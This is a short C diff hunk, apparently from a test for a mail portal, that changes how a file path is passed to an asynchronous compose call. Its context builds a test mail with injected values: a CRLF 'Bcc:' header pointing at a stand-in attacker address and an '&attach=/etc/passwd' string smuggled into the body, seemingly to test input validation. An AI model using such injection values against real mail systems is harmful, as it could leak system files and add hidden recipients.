@@ -54,7 +54,8 @@ compose (Outcome *outcome, const char *path, guint patience, GCancellable *cance
                mail = veto_letter_mail_new ("privacy@example.org", "Erika\r\nBcc: x@evil.example",
                                             "Hello\r\n&attach=/etc/passwd\n");
 
-  veto_mail_portal_compose_async (mail, path, patience, cancellable, composed_cb, outcome);
+  veto_mail_portal_compose_async (mail, (const char *[]){ path, NULL }, patience, cancellable, composed_cb,
+                                  outcome);
 }
 
 static char *
